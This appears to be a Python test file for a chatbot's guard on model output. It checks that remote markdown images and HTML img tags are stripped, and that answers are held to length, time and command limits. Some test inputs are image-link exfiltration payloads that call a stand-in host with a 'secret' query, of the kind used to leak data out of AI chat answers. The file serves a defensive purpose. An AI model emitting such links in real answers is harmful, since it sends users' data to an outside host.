"""Bounds hold whatever a model answers."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.errors import ModelDown
from bot.llm.guard import Bounds, Guarded
from bot.llm.scripted import ScriptedModel
from bot.model import Cancel
from bot.ports import Ask, Usage, Wanted, Words
from bot.testing.clock import SettableClock

ASK = Ask(instructions="", words="Hi", history=(), language="en")


async def said(*pieces: str, characters: int = 4_000) -> str:
    model = Guarded(ScriptedModel().then(*map(Words, pieces)), SettableClock(), Bounds(characters=characters))
    return "".join([item.text async for item in model.answer(ASK) if isinstance(item, Words)])


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See ![our shop](https://evil.example/?q=secret) now", "See our shop now"),
        ("![](https://evil.example/a_(b).png \"T\")!", "!"),
        ("<img src='https://evil.example'> and <IMG\nsrc=x>", " and "),
        ("Wow! [a](https://a.example) <i>x</i> ![half", "Wow! [a](https://a.example) <i>x</i> ![half"),
        ("a\0b\u202e", "ab\u202e"),
    ],
)  # fmt: skip
async def test_no_remote_image_gets_through(text: str, shown: str) -> None:
    assert await said(text) == shown
    assert await said(*text) == shown


@given(st.data())
async def test_what_is_taken_out_does_not_depend_on_how_a_text_is_cut(data: st.DataObject) -> None:
    text = data.draw(st.text(st.sampled_from("a![](x)<img>"), max_size=40))
    assert await said(*text) == await said(text)


async def test_a_text_without_end_is_cut_off() -> None:
    assert await said(*["abcdefgh"] * 100, characters=20) == "abcdefghabcdefghabcd…"


async def test_an_image_without_end_is_shown_as_it_is() -> None:
    text = "![" + "a" * 3_000
    assert await said(*text) == text


async def test_an_answer_has_its_time() -> None:
    clock = SettableClock()

    async def wait() -> None:
        await clock.advance(61)

    answer = Guarded(ScriptedModel().then("One", wait, "two"), clock).answer(ASK)
    assert await anext(answer) == Words("One")
    with pytest.raises(ModelDown, match="no end after 60 s"):
        await anext(answer)


async def test_commands_are_counted_and_the_rest_passes() -> None:
    wanted = [Wanted(Cancel())] * 3
    model = Guarded(ScriptedModel().then(*wanted, Usage(1, 2)), SettableClock(), Bounds(commands=2))
    assert [item async for item in model.answer(ASK)] == [*wanted[:2], Usage(1, 2)]
